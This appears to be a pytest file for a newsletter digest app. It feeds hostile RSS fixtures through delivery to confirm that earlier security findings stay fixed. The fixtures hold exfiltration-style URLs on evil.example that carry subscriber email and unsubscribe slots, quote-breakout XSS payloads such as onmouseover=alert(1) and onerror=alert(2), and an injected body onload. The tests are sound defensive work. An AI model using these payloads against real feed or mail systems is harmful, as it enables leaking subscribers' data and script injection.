"""A hostile corpus end to end, on SQLite and on PostgreSQL.

Feeds and a listing page (tests/fixtures/hostile/render/) are served on 127.0.0.1, collected,
composed, approved and delivered to a Maildir and over a real SMTP conversation (aiosmtpd); then the
delivered bytes, the view-online page and the preview files are read as their author hoped to
use them: for subscribers' addresses and tokens in URLs to another host, for anything outside
the HTML allow-list, for an injected header or line.
"""

from __future__ import annotations

import email
import email.policy
import re
from collections.abc import Iterator
from pathlib import Path

import html5lib
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from digest.config import get_settings, reset_settings
from digest.db import session_factory
from digest.delivery.errors import DeliveryError
from digest.delivery.maildir import MaildirTransport
from digest.delivery.prepare import prepare_issue_message
from digest.delivery.send import send_issue_inline
from digest.delivery.smtp import SmtpTransport
from digest.delivery.smtp_client import SmtpConfig
from digest.models import Issue
from digest.pipeline import approve_issue, start_sending
from digest.render.allowlist import UnsafeHtmlError
from digest.web.app import create_app
from tests.fixtures.hostile.render.corpus import (
    PUBLIC_URL,
    SUBSCRIBERS,
    HostileIssue,
    check_html,
    check_message,
    check_no_leak,
    html_urls,
    issue_from_corpus,
    issue_from_sources,
    preview_file,
)
from tests.fixtures.sources.server import Page, SourceServer, serving
from tests.helpers import token
from tests.smtp_server import SMTPServer


@pytest.fixture
def server() -> Iterator[SourceServer]:
    with serving() as running:
        yield running


@pytest.fixture(autouse=True)
def _public_url(db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Links of ours point at a host of their own, told apart from the feed owner's."""
    monkeypatch.setenv("DIGEST_PUBLIC_URL", PUBLIC_URL)
    reset_settings()


def deliver(session: Session, db_url: str, issue_id: int, transport: object) -> None:
    start_sending(session, issue_id)
    session.commit()
    totals = send_issue_inline(session_factory(db_url), issue_id, transport, get_settings())  # type: ignore[arg-type]
    assert totals.sent == len(SUBSCRIBERS), totals


def maildir_copies(outbox: Path) -> list[bytes]:
    return [p.read_bytes() for p in sorted((outbox / "new").iterdir())]


def to_address(raw: bytes) -> str:
    found = re.search(rb"^To: .*?<?([^<>\s]+@[^<>\s]+?)>?\r?$", raw, re.M)
    assert found is not None
    return found.group(1).decode()


def test_hostile_corpus_delivered_to_a_maildir(
    session: Session, db_url: str, server: SourceServer, tmp_path: Path
) -> None:
    issue = issue_from_corpus(session, server)
    transport = MaildirTransport(tmp_path / "outbox")
    deliver(session, db_url, issue.issue_id, transport)
    copies = maildir_copies(tmp_path / "outbox")
    assert sorted(to_address(raw) for raw in copies) == sorted(e for e, _ in SUBSCRIBERS)
    for raw in copies:
        recipient = issue.recipient(to_address(raw))
        check_message(raw, recipient, issue, added=frozenset({"return-path"}))


def test_hostile_corpus_delivered_over_smtp(
    session: Session, db_url: str, server: SourceServer
) -> None:
    issue = issue_from_corpus(session, server)
    with SMTPServer() as smtp:
        transport = SmtpTransport(SmtpConfig(port=smtp.port), connections=1)
        try:
            deliver(session, db_url, issue.issue_id, transport)
        finally:
            transport.close()
        received = list(smtp.messages)
    assert sorted(r for m in received for r in m.rcpt_tos) == sorted(e for e, _ in SUBSCRIBERS)
    for message in received:
        [rcpt] = message.rcpt_tos
        assert to_address(message.data) == rcpt
        check_message(message.data, issue.recipient(rcpt), issue)


def check_preview(db_url: str, hostile: HostileIssue, path: Path) -> None:
    html = preview_file(db_url, hostile.issue_id, path)
    check_html(html)  # the sample reader's links are "#unsubscribe" fragments
    assert "Quote breakouts in href and src" in html
    check_no_leak(html_urls(html), hostile.recipients)
    text = preview_file(db_url, hostile.issue_id, path.with_suffix(".txt"), "text")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u2028\u2029]", text)
    assert not re.search(r"(?m)^(Bcc|X-Injected):", text)


def test_preview_files_and_the_view_online_page_of_a_hostile_issue(
    session: Session, db_url: str, server: SourceServer, tmp_path: Path
) -> None:
    hostile = issue_from_corpus(session, server, approve=False)
    check_preview(db_url, hostile, tmp_path / "draft.html")  # the draft, rendered afresh
    approve_issue(session, hostile.issue_id, get_settings())
    session.commit()
    check_preview(db_url, hostile, tmp_path / "frozen.html")  # the frozen copy

    client = TestClient(create_app())
    page = client.get(f"/v/{token('view', hostile.issue_id)}")
    assert page.status_code == 200
    assert "script-src" not in page.headers["content-security-policy"]
    assert "default-src 'none'" in page.headers["content-security-policy"]
    check_html(page.text, relative_ok=True)  # its own links are /links and /v/...
    for person in hostile.recipients:  # the web copy is nobody's
        for secret in person.secrets():
            assert secret not in page.text


# --- One test per finding, each failing on the code before the fix ----------------------------

PLANTED_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Planted</title><link>https://evil.example/</link><description>d</description>
<item><title>Planted slots</title>
<link>https://evil.example/l?e=[[digest:email]]&amp;u=[[digest:unsubscribe_url]]</link>
<media:content url="https://evil.example/i.jpg?p=[[digest:preferences_url]]&amp;e=[[digest:email]]"
  medium="image"/>
<description><![CDATA[<p><a href="https://evil.example/s?e=[[digest:email]]&p=[[digest:preferences_url]]">s</a>
<img src="https://evil.example/o.jpg?e=[[digest:email]]&u=[[digest:unsubscribe_url]]"></p>]]>
</description></item></channel></rss>"""

BREAKOUT_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Breakout</title><link>https://evil.example/</link>
<description>d</description><item><title>Breakout</title><link>https://evil.example/b</link>
<description><![CDATA[<p><a href="https://evil.example/a&quot;onmouseover=alert(1)//&quot;style=position:fixed;inset:0">a</a>
<img src="https://evil.example/b.jpg&quot;onerror=alert(2)//"></p>]]></description>
</item></channel></rss>"""


def _delivered_html(
    session: Session, db_url: str, server: SourceServer, feed: bytes, outbox: Path
) -> tuple[HostileIssue, list[tuple[bytes, str]]]:
    url = server.add("/feed.xml", Page(feed, "application/rss+xml"))
    issue = issue_from_sources(session, [(url, "feed")])
    deliver(session, db_url, issue.issue_id, MaildirTransport(outbox))
    copies = []
    for raw in maildir_copies(outbox):
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        html = msg.get_body(("html",))
        assert html is not None
        copies.append((raw, str(html.get_content())))
    return issue, copies


def test_finding_planted_slots_fill_nothing_for_the_feed_owner(
    session: Session, db_url: str, server: SourceServer, tmp_path: Path
) -> None:
    """Finding 1: `[[digest:email]]` and friends in a link, an image or a summary link were
    filled per recipient, sending every address and working unsubscribe link to the feed."""
    issue, copies = _delivered_html(session, db_url, server, PLANTED_RSS, tmp_path / "o")
    assert len(copies) == len(SUBSCRIBERS)
    for _, html in copies:
        values = html_urls(html)
        assert sum("evil.example" in v for v in values) >= 4  # the planted URLs are there
        check_no_leak(values, issue.recipients)


def test_finding_a_quote_in_a_url_adds_no_attribute(
    session: Session, db_url: str, server: SourceServer, tmp_path: Path
) -> None:
    """Finding 2: a `"` in an allowed href/src survived nh3, lxml re-quoted it in single quotes
    and MRML as `\\"`, so the feed owner added onmouseover=/onerror=/style= to the email."""
    _, copies = _delivered_html(session, db_url, server, BREAKOUT_RSS, tmp_path / "o")
    assert copies
    for _, html in copies:
        doc = html5lib.parse(html, namespaceHTMLElements=False)
        added = [
            (el.tag, name)
            for el in doc.iter()
            for name in getattr(el, "attrib", {})
            if name.startswith("on") or (el.tag in ("a", "img") and name.startswith("style="))
        ]
        assert added == []
        evil = [
            el
            for el in doc.iter()
            if el.tag in ("a", "img") and "evil.example/" in (el.get("href") or el.get("src") or "")
        ]
        assert len(evil) >= 3
        assert all(not (el.get("style") or "").count("position") for el in evil)


def test_stored_html_that_fails_the_allow_list_is_never_frozen_for_sending(
    session: Session, db_url: str, server: SourceServer, tmp_path: Path
) -> None:
    """The check runs again on what is frozen for sending, whatever wrote the stored copy."""
    hostile = issue_from_corpus(session, server)
    issue = session.get(Issue, hostile.issue_id)
    assert issue is not None and issue.html is not None
    issue.html = issue.html.replace("<body", '<body onload="alert(1)"', 1)
    issue.message_template = None
    session.commit()
    with pytest.raises(UnsafeHtmlError, match=r"attribute <body onload>.*") as caught:
        prepare_issue_message(session, hostile.issue_id, get_settings())
    assert f"issue {hostile.issue_id} fails the HTML allow-list" in str(caught.value)
    session.rollback()
    with pytest.raises(DeliveryError, match="approve it first"):
        start_sending(session, hostile.issue_id)
    session.rollback()
    assert session.get(Issue, hostile.issue_id).message_template is None  # type: ignore[union-attr]
